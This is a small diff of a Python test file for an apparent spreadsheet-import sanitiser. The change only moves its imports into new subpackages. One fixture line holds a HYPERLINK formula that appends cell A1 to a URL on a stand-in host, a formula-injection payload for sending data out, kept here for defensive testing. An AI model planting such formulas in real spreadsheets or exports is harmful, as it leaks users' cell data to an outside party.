@@ -8,9 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from agent.importing.refusals import write_refusals
-from agent.importing.spreadsheet_cells import harmless, original
-from agent.importing.table import read_table
+from agent.importing.reading.refusals import write_refusals
+from agent.importing.tables.spreadsheet_cells import harmless, original
+from agent.importing.tables.table import read_table
 
 FORMULAS = (
     '=HYPERLINK("http://e.example/?"&A1)',
